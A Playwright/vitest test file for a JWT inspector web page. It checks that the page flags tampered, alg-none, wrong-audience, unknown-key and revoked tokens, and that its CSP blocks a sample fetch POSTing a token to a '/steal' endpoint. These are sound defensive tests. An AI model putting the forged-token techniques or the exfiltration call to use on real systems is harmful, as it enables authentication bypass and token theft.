import { mkdir } from 'node:fs/promises';
import path from 'node:path';
import { SignJWT, generateKeyPair } from 'jose';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli } from '../cli/run-cli.js';
import { launchChromium } from '../support/browser.js';
import { type ListeningHarness, startListeningHarness } from '../support/harness.js';
import { type Listening, serve } from '../support/listen.js';
import { closeAll } from '../support/teardown.js';
import { type LoggedIn, registerAndLogin } from '../support/auth.js';

// The /inspect page in a real browser (Debian's chromium, driven by playwright-core): a pasted
// token decoded, dated and verified with WebCrypto against the live JWKS of this server; each
// defect named in the same words as `latchkey token inspect`; the JWT.io experiment; the token
// never in a request; the CSP enforced. Screenshots go to tmp/ for a human to look at.

const SHOTS = path.resolve(import.meta.dirname, '../../tmp');

interface Seen {
  url: string;
  method: string;
  postData: string | null;
  headers: Record<string, string>;
}

let h: ListeningHarness;
let adminServer: Listening;
let issuer: string;
let adminUrl: string;
let browser: Browser;
let page: Page;
let loggedIn: LoggedIn;
const requests: Seen[] = [];
/** Every token pasted or produced in the page: none of them may ever be in a request. */
const pasted = new Set<string>();

beforeAll(async () => {
  // No chromium is a failure of every test below, never a skip: CI installs it.
  browser = await launchChromium();
  // ISSUER is the public listener's real origin (the page fetches the JWKS there).
  h = await startListeningHarness();
  issuer = h.origin;
  adminServer = await serve(h.apps.admin);
  adminUrl = adminServer.origin;
  page = await browser.newPage({ viewport: { width: 1280, height: 720 } });
  page.on('request', (request) => {
    void request
      .allHeaders()
      .then((headers) => requests.push({ url: request.url(), method: request.method(), postData: request.postData(), headers }));
  });
  // The page's clock is the harness's: dates and "in 10m" are exact.
  await page.clock.setFixedTime(h.clock.now());
  await mkdir(SHOTS, { recursive: true });
}, 60_000);

afterAll(() => closeAll(browser, adminServer, h));

const jwksUrl = () => `${issuer}/.well-known/jwks.json`;
const issue = async () => (await h.services.accessTokens.issue({ subject: 'u-1', sessionId: 's-1' })).token;
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const decodePart = (part: string | undefined) =>
  JSON.parse(Buffer.from(part ?? '', 'base64url').toString()) as Record<string, unknown>;

/** Signs with the server's own active key, so only what the test changes is wrong. */
async function signWithServerKey(change: Record<string, unknown>) {
  const { kid, alg, key } = h.services.keys.signingKey();
  const claims = decodePart((await issue()).split('.')[1]);
  return new SignJWT({ ...claims, ...change }).setProtectedHeader({ alg, kid, typ: 'at+jwt' }).sign(key);
}

async function openPage() {
  const response = await page.goto(`${adminUrl}/inspect`);
  expect(response?.status()).toBe(200);
  return response!;
}

/** Pastes a token and waits for the verdict. */
async function paste(token: string) {
  pasted.add(token);
  await page.locator('#token').fill(token);
  return verdict();
}

async function verdict() {
  await expect.poll(() => page.locator('#verdict').textContent(), { timeout: 10_000 }).not.toMatch(/^(checking…|paste a token)$/);
  return {
    verdict: await page.locator('#verdict').textContent(),
    defects: await page.locator('#defects li').allTextContents(),
  };
}

const shot = (name: string) => page.screenshot({ path: path.join(SHOTS, `inspector-${name}.png`), fullPage: true });

describe('the inspector page', () => {
  it('shows a fresh token as valid, its three parts coloured, header and claims as JSON, and each time as a date', async () => {
    await openPage();
    loggedIn = await registerAndLogin(h);
    const token = loggedIn.accessToken;
    expect(await paste(token)).toEqual({ verdict: 'valid', defects: [] });

    const [header, payload, signature] = token.split('.');
    expect(await page.locator('#part-header').textContent()).toBe(header);
    expect(await page.locator('#part-payload').textContent()).toBe(payload);
    expect(await page.locator('#part-signature').textContent()).toBe(signature);
    const colours = await Promise.all(
      ['#part-header', '#part-payload', '#part-signature'].map((s) => page.locator(s).evaluate((e) => getComputedStyle(e).color)),
    );
    expect(new Set(colours).size).toBe(3);

    const { kid } = h.services.keys.signingKey();
    expect(JSON.parse((await page.locator('#header-json').textContent()) ?? '')).toEqual({ alg: 'ES256', kid, typ: 'at+jwt' });
    const claims = JSON.parse(await page.locator('#payload-json').inputValue());
    expect(claims).toMatchObject({ iss: issuer, aud: 'api', sub: loggedIn.userId, sid: expect.any(String) });
    expect(claims.status.status_list).toEqual({ idx: expect.any(Number), uri: `${issuer}/statuslists/1` });

    const now = h.clock.now();
    const rows = await page
      .locator('#times tr')
      .evaluateAll((trs) => trs.map((tr) => [...tr.children].map((td) => td.textContent)));
    expect(rows).toEqual([
      ['iat', now.toISOString(), '0s ago'],
      ['exp', new Date(now.getTime() + 600_000).toISOString(), 'expires in 10m'],
    ]);
    // Looked up in the server's own status list, fetched by the page.
    expect(await page.locator('#status').textContent()).toBe(
      `status: valid (index ${claims.status.status_list.idx} of ${issuer}/statuslists/1)`,
    );
    await shot('valid');
  });

  it.each([
    [
      'expired',
      async () => {
        const now = h.clock.now();
        h.clock.advance(-15 * 60);
        try {
          return await issue();
        } finally {
          h.clock.set(now);
        }
      },
      () => `expired 5m ago (exp ${new Date(h.clock.now().getTime() - 300_000).toISOString()})`,
    ],
    [
      'tampered',
      async () => {
        const [header, payload, signature] = (await issue()).split('.');
        return `${header}.${b64({ ...decodePart(payload), sub: 'admin' })}.${signature}`;
      },
      () => `bad signature: key ${h.services.keys.signingKey().kid} did not sign this token`,
    ],
    [
      'alg-none',
      async () => `${b64({ alg: 'none', typ: 'at+jwt' })}.${(await issue()).split('.')[1]}.`,
      () => 'alg not allowed: "none" (allowed: ES256, EdDSA, RS256, PS256)',
    ],
    ['wrong-audience', () => signWithServerKey({ aud: 'billing' }), () => 'wrong aud: "billing" (expected "api")'],
    [
      'unknown-kid',
      async () => {
        const { privateKey } = await generateKeyPair('ES256');
        const claims = decodePart((await issue()).split('.')[1]);
        return new SignJWT(claims)
          .setProtectedHeader({ alg: 'ES256', kid: 'not-a-latchkey-key', typ: 'at+jwt' })
          .sign(privateKey);
      },
      () => `unknown or revoked kid not-a-latchkey-key: not in ${jwksUrl()}`,
    ],
  ])('names the defect of a %s token', async (name, make, message) => {
    expect(await paste(await make())).toEqual({ verdict: 'invalid', defects: [message()] });
    await shot(name);
  });

  it('names a token whose session was logged out as revoked in its status list', async () => {
    const idx = decodePart(loggedIn.accessToken.split('.')[1]).status as { status_list: { idx: number } };
    await h.http.post('/auth/logout').set('Cookie', `${h.config.refreshCookieName}=${loggedIn.refreshToken}`).expect(204);
    // Past the server's 1 s rebuild and the page's 5 s memory; the page's clock follows.
    h.clock.advance(6);
    await page.clock.setFixedTime(h.clock.now());
    const uri = `${issuer}/statuslists/1`;
    expect(await paste(loggedIn.accessToken)).toEqual({
      verdict: 'invalid',
      defects: [`revoked in its status list (index ${idx.status_list.idx} of ${uri})`],
    });
    expect(await page.locator('#status').textContent()).toBe(`status: revoked (index ${idx.status_list.idx} of ${uri})`);
    await shot('revoked');
  });

  it('flips to a bad signature when the payload is edited, and back when the token is restored (the JWT.io experiment)', async () => {
    const token = await issue();
    expect((await paste(token)).verdict).toBe('valid');
    const claims = JSON.parse(await page.locator('#payload-json').inputValue());
    await page.locator('#payload-json').fill(JSON.stringify({ ...claims, sub: 'admin' }, null, 2));
    const edited = await page.locator('#token').inputValue();
    pasted.add(edited);
    expect(edited.split('.')[1]).not.toBe(token.split('.')[1]);
    expect(edited.split('.')[2]).toBe(token.split('.')[2]);
    expect(decodePart(edited.split('.')[1]).sub).toBe('admin');
    expect(await verdict()).toEqual({
      verdict: 'invalid',
      defects: [`bad signature: key ${h.services.keys.signingKey().kid} did not sign this token`],
    });
    await shot('edited-payload');
    expect(await paste(token)).toEqual({ verdict: 'valid', defects: [] });
  });

  it('uses the same words as `latchkey token inspect` for the same tokens', async () => {
    const [header, payload, signature] = (await issue()).split('.');
    const tampered = `${header}.${b64({ ...decodePart(payload), sub: 'admin' })}.${signature}`;
    const several = await signWithServerKey({ aud: 'billing', iss: 'https://evil.example', jti: undefined });
    // Including the status list's words: the session of this token was logged out above.
    for (const token of [tampered, several, loggedIn.accessToken]) {
      const page_ = (await paste(token)).defects;
      const run = await cli(['token', 'inspect', token], { ISSUER: issuer, ACCESS_TOKEN_AUDIENCE: 'api' });
      const cliDefects = run.stdout
        .split('\n')
        .filter((l) => l.startsWith('invalid: '))
        .map((l) => l.slice('invalid: '.length));
      expect(page_.length).toBeGreaterThan(0);
      expect(cliDefects).toEqual(page_);
    }
  });

  it('reports iss and aud without failing on them when the expected fields are emptied', async () => {
    await page.locator('#expected-iss').fill('');
    await page.locator('#expected-iss').dispatchEvent('change');
    await page.locator('#expected-aud').fill('');
    await page.locator('#expected-aud').dispatchEvent('change');
    expect(await paste(await signWithServerKey({ aud: 'billing' }))).toEqual({ verdict: 'valid', defects: [] });
    expect(await page.locator('#notes li').allTextContents()).toEqual([
      `iss "${issuer}" not compared: no expected issuer given`,
      'aud "billing" not compared: no expected audience given',
    ]);
    await openPage();
    expect(await page.locator('#expected-iss').inputValue()).toBe(issuer);
    expect(await page.locator('#expected-aud').inputValue()).toBe('api');
    expect(await page.locator('#jwks-url').inputValue()).toBe(jwksUrl());
  });

  it('refuses, and says why, a typed JWKS URL on another origin (its CSP allows this server only)', async () => {
    await page.locator('#jwks-url').fill('https://keys.example.net/jwks.json');
    await page.locator('#jwks-url').dispatchEvent('change');
    const result = await paste(await issue());
    expect(result.verdict).toBe(
      `cannot verify: this page may only fetch from ${adminUrl} and ${issuer} (its Content-Security-Policy); ` +
        'for another server use `latchkey token inspect --jwks URL`',
    );
    await openPage();
  });

  it('is served with a strict CSP that the browser enforces: no inline script, no fetch elsewhere', async () => {
    const response = await openPage();
    const issuerOrigin = new URL(issuer).origin;
    expect(response.headers()['content-security-policy']).toBe(
      `default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self' ${issuerOrigin}; img-src data:; ` +
        "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'",
    );
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      let inlineRefused = false;
      try {
        script.textContent = 'window.inlineRan = true';
        document.body.append(script);
      } catch {
        inlineRefused = true;
      }
      let fetchRefused = false;
      await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'token' }).catch(() => (fetchRefused = true));
      await new Promise((resolve) => setTimeout(resolve, 50));
      return { inlineRefused, inlineRan: 'inlineRan' in window, fetchRefused, violations };
    });
    expect(outcome).toMatchObject({ inlineRefused: true, inlineRan: false, fetchRefused: true });
    expect(outcome.violations).toContain('connect-src');
  });

  it('never sends the token anywhere: only the page, its files, the JWKS and the status list were requested', async () => {
    // Let the recorder's pending header reads settle.
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(requests.length).toBeGreaterThan(0);
    const pieces = [...pasted].flatMap((t) => [t, ...t.split('.').filter((p) => p.length > 16)]);
    for (const request of requests) {
      const seen = [request.url, request.postData ?? '', ...Object.values(request.headers)].join('\n');
      for (const piece of pieces) expect(seen, request.url).not.toContain(piece);
      expect(request.method).toBe('GET');
      expect(request.postData).toBeNull();
    }
    const urls = new Set(requests.map((r) => r.url));
    expect([...urls].sort()).toEqual(
      [
        `${adminUrl}/inspect`,
        `${adminUrl}/inspect/inspector.css`,
        `${adminUrl}/inspect/inspector.js`,
        jwksUrl(),
        `${issuer}/statuslists/1`,
      ].sort(),
    );
    expect(await page.evaluate(() => [localStorage.length, sessionStorage.length, location.hash])).toEqual([0, 0, '']);
  });
});
